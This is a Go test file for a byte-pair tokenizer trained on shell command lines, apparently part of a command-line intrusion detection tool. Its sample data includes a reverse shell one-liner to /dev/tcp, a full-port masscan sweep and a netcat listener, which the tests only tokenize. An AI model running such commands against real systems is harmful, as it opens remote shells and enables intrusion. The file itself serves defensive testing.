package bpe

import (
	"bytes"
	"fmt"
	"math/rand"
	"reflect"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"testing/quick"
)

var sampleCorpus = []string{
	"ls -la /tmp",
	"ls -la /var/log",
	"cat /var/log/syslog",
	"grep -i error /var/log/syslog",
	"docker ps -a",
	"docker run --rm -it ubuntu bash",
	"python main.py",
	"python3 -m http.server 8000",
	"curl -fsSL https://get.example.com/install.sh",
	"curl https://mirror.example.com/pkg.tar.gz -o pkg.tar.gz",
	"nc -lvnp 4444",
	"chmod +x run.sh",
	"echo hello world",
	"df -h",
	"ps aux",
	"watch -n 1 nvidia-smi",
}

func trainSample(t testing.TB, vocab int) *Tokenizer {
	t.Helper()
	tok, err := Train(sampleCorpus, TrainConfig{VocabSize: vocab, MinPairFreq: 2})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	return tok
}

func TestTrainBasics(t *testing.T) {
	tok := trainSample(t, 400)
	if tok.VocabSize() < baseVocab {
		t.Fatalf("vocab size %d < base %d", tok.VocabSize(), baseVocab)
	}
	if tok.VocabSize() > 400 {
		t.Fatalf("vocab size %d exceeds target", tok.VocabSize())
	}
	if tok.NumMerges() == 0 {
		t.Fatal("no merges learned")
	}
}

func TestTrainEmptyCorpus(t *testing.T) {
	if _, err := Train(nil, TrainConfig{VocabSize: 300}); err == nil {
		t.Fatal("expected error on empty corpus")
	}
}

func TestEncodeDecodeRoundTrip(t *testing.T) {
	tok := trainSample(t, 500)
	lines := append([]string{}, sampleCorpus...)
	lines = append(lines,
		"completely unseen command --with-flags /and/paths",
		"masscan 10.0.0.1 -p 0-65535 --rate=1000",
		"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
	)
	for _, line := range lines {
		norm := strings.Join(strings.Fields(line), " ")
		got := tok.Decode(tok.Encode(line))
		if got != norm {
			t.Errorf("round trip %q -> %q", norm, got)
		}
	}
}

func TestEncodeDeterministic(t *testing.T) {
	tok := trainSample(t, 500)
	a := tok.Encode("docker run --rm -it ubuntu bash")
	b := tok.Encode("docker run --rm -it ubuntu bash")
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("non-deterministic encoding: %v vs %v", a, b)
	}
}

func TestTrainDeterministic(t *testing.T) {
	t1 := trainSample(t, 450)
	t2 := trainSample(t, 450)
	if t1.VocabSize() != t2.VocabSize() {
		t.Fatalf("vocab sizes differ: %d vs %d", t1.VocabSize(), t2.VocabSize())
	}
	for i := 0; i < t1.VocabSize(); i++ {
		if t1.Token(i) != t2.Token(i) {
			t.Fatalf("token %d differs: %q vs %q", i, t1.Token(i), t2.Token(i))
		}
	}
}

func TestMergesCompress(t *testing.T) {
	tok := trainSample(t, 600)
	line := "docker run --rm -it ubuntu bash"
	ids := tok.Encode(line)
	// Byte-level baseline would be one token per byte (spaces included in
	// the following word). Learned merges must compress.
	if len(ids) >= len(line) {
		t.Fatalf("no compression: %d tokens for %d bytes", len(ids), len(line))
	}
}

func TestEncodeForModel(t *testing.T) {
	tok := trainSample(t, 400)
	ids := tok.EncodeForModel("ls -la /tmp", 16)
	if ids[0] != ClsID {
		t.Errorf("first token = %d, want CLS", ids[0])
	}
	if ids[len(ids)-1] != SepID {
		t.Errorf("last token = %d, want SEP", ids[len(ids)-1])
	}
	// Truncation.
	long := strings.Repeat("verylongword ", 50)
	ids = tok.EncodeForModel(long, 16)
	if len(ids) != 16 {
		t.Errorf("truncated length = %d, want 16", len(ids))
	}
	if ids[0] != ClsID || ids[15] != SepID {
		t.Errorf("truncated specials wrong: %v", ids)
	}
}

func TestPretokenize(t *testing.T) {
	got := Pretokenize("  php -r  \"phpinfo();\" ")
	want := []string{"php", " -r", ` "phpinfo();"`}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Pretokenize = %q, want %q", got, want)
	}
	if Pretokenize("   ") != nil {
		t.Error("blank line should pretokenize to nil")
	}
}

func TestSpecialTokenIDs(t *testing.T) {
	tok := trainSample(t, 300)
	checks := map[string]int{
		PadToken: PadID, UnkToken: UnkID, ClsToken: ClsID,
		SepToken: SepID, MaskToken: MaskID,
	}
	for s, id := range checks {
		if got := tok.ID(s); got != id {
			t.Errorf("ID(%q) = %d, want %d", s, got, id)
		}
		if !IsSpecial(id) {
			t.Errorf("IsSpecial(%d) = false", id)
		}
	}
	if IsSpecial(NumSpecials) {
		t.Error("first byte symbol reported as special")
	}
	if tok.ID("never-a-token-xyzzy") != UnkID {
		t.Error("unknown token should map to UNK")
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	tok := trainSample(t, 500)
	var buf bytes.Buffer
	if err := tok.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if loaded.VocabSize() != tok.VocabSize() || loaded.NumMerges() != tok.NumMerges() {
		t.Fatalf("sizes differ after load: vocab %d/%d merges %d/%d",
			loaded.VocabSize(), tok.VocabSize(), loaded.NumMerges(), tok.NumMerges())
	}
	for _, line := range sampleCorpus {
		a := tok.Encode(line)
		b := loaded.Encode(line)
		if !reflect.DeepEqual(a, b) {
			t.Fatalf("encoding differs after load for %q: %v vs %v", line, a, b)
		}
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	movedByte := seedVocab()
	movedByte[NumSpecials+'a'] = "zz"
	bad := []string{
		"",
		"not-a-header",
		"clmids-bpe v1\nvocab -5\n",
		"clmids-bpe v1\nvocab 999\n\"a\"\n", // truncated vocab
		// A repeated merge pair: its ranks are not dense, so Save could
		// not write them back.
		savedText(append(seedVocab(), "ab"), `"a" "b"`, `"a" "b"`),
		// A byte symbol away from ID NumSpecials+b, where Encode puts it.
		savedText(append(movedByte, "a")),
	}
	for _, in := range bad {
		if _, err := Load(strings.NewReader(in)); err == nil {
			t.Errorf("Load(%q): expected error", in)
		}
	}
}

// savedText writes a tokenizer.txt by hand from a vocabulary in ID order
// and quoted merge lines, so tests can build states Save never writes.
func savedText(inv []string, merges ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s\nvocab %d\n", formatHeader, len(inv))
	for _, tok := range inv {
		b.WriteString(strconv.Quote(tok) + "\n")
	}
	fmt.Fprintf(&b, "merges %d\n", len(merges))
	for _, m := range merges {
		b.WriteString(m + "\n")
	}
	return b.String()
}

// TestLoadHeaderDoesNotPreallocate: the vocab count is untrusted, so a
// file that claims 2^24 tokens and ends must fail without allocating for
// them.
func TestLoadHeaderDoesNotPreallocate(t *testing.T) {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	_, err := Load(strings.NewReader(formatHeader + "\nvocab 16777216\n"))
	runtime.ReadMemStats(&after)
	if err == nil {
		t.Fatal("truncated tokenizer accepted")
	}
	if mb := (after.TotalAlloc - before.TotalAlloc) >> 20; mb > 16 {
		t.Fatalf("Load allocated %d MB for a 30-byte file", mb)
	}
}

func TestSaveLoadNonUTF8Token(t *testing.T) {
	// Byte symbols 128..255 are not valid UTF-8 on their own; they must
	// survive the save/load round trip.
	tok := trainSample(t, 300)
	var buf bytes.Buffer
	if err := tok.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	raw := string([]byte{0xff})
	if loaded.ID(raw) != tok.ID(raw) {
		t.Fatalf("byte 0xff id differs: %d vs %d", loaded.ID(raw), tok.ID(raw))
	}
}

func TestQuickRoundTrip(t *testing.T) {
	tok := trainSample(t, 500)
	alphabet := "abcdefghijklmnopqrstuvwxyz0123456789-/._ |&;$'\""
	cfg := &quick.Config{
		MaxCount: 500,
		Values: func(values []reflect.Value, r *rand.Rand) {
			n := 1 + r.Intn(60)
			buf := make([]byte, n)
			for i := range buf {
				buf[i] = alphabet[r.Intn(len(alphabet))]
			}
			values[0] = reflect.ValueOf(string(buf))
		},
	}
	prop := func(line string) bool {
		norm := strings.Join(strings.Fields(line), " ")
		return tok.Decode(tok.Encode(line)) == norm
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestQuickNoUnknownForBytes(t *testing.T) {
	// Property: byte-level seeding means Encode never produces UNK.
	tok := trainSample(t, 400)
	cfg := &quick.Config{MaxCount: 300}
	prop := func(raw []byte) bool {
		for _, id := range tok.Encode(string(raw)) {
			if id == UnkID {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkEncode(b *testing.B) {
	tok := trainSample(b, 800)
	line := "docker run --rm -it -v /srv/data:/data ubuntu bash -c 'ls -la /data'"
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tok.Encode(line)
	}
}

func BenchmarkTrain(b *testing.B) {
	corpus := make([]string, 0, len(sampleCorpus)*50)
	for i := 0; i < 50; i++ {
		corpus = append(corpus, sampleCorpus...)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := Train(corpus, TrainConfig{VocabSize: 600}); err != nil {
			b.Fatal(err)
		}
	}
}
